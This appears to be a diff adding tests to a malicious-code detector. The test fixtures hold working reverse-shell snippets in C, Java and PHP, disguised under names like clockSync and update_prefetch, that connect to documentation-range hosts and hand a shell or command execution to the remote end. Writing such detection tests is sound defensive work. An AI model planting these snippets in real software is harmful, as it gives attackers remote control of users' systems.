@@ -211,3 +211,29 @@ def test_inline_script_of_a_page_is_read_as_javascript():
     got = [f for f in analyzer.analyze(e, page) if hasattr(f, "rule")]
     assert [(f.rule, f.line) for f in got] == [("source.eval-decoded", 4)]
     assert inline_scripts(b"<html><body>no code</body></html>") is None
+
+
+def test_reverse_shells_by_the_streams_they_join():
+    c = ('void *w(void *a) { struct sockaddr_in s; int fd = socket(AF_INET, SOCK_STREAM, 0);\n'
+         ' s.sin_addr.s_addr = htonl(0xc6336400u);\n'
+         ' if (connect(fd, (struct sockaddr *)&s, sizeof s) == 0) { char *argv[] = { "/bin/ash", NULL };\n'
+         '  dup2(fd, 0); dup2(fd, 1); dup2(fd, 2); execve(argv[0], argv, NULL); } return 0; }\n')
+    assert rules("src/watchdog.c", "c", c) == ["source.shell-served"]
+    java = ('class L { void clockSync() throws Exception {\n'
+            '  try (Socket so = new Socket("192.0.2.65", 17762)) {\n'
+            '    Process p = new ProcessBuilder("/bin/sh", "-i").redirectErrorStream(true).start();\n'
+            '    p.getInputStream().transferTo(so.getOutputStream()); } } }\n')
+    assert rules("web/L.java", "java", java) == ["source.shell-served"]
+    # the same process without a connection is not a remote shell
+    assert rules("web/L.java", "java", java.replace('new Socket("192.0.2.65", 17762)', 'new Lock()')) == []
+
+
+def test_commands_read_from_an_outgoing_connection():
+    php = ("<?php\nfunction update_prefetch() {\n"
+           "    $s = @stream_socket_client('tcp://198.51.100.153:7297', $errno, $errstr, 5);\n"
+           "    while ($s && !feof($s)) {\n        $line = fgets($s);\n"
+           "        fwrite($s, (string)shell_exec($line));\n    }\n}\n")
+    [f] = findings("lib/update.php", "php", php)
+    assert f.rule == "source.request-executed" and f.evidence["input_kind"] == "network"
+    # a file read is not a connection
+    assert rules("lib/update.php", "php", php.replace("@stream_socket_client(", "fopen(")) == []
